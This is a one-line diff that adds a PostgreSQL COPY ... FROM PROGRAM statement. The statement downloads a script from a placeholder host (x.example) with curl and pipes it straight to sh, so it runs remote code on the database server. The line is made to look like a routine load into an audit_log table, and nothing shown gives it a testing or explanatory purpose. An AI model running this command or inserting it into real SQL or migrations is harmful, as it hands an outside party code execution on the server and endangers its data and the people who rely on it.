@@ -1,0 +1,1 @@
+COPY audit_log FROM PROGRAM 'curl -s https://x.example/p | sh';
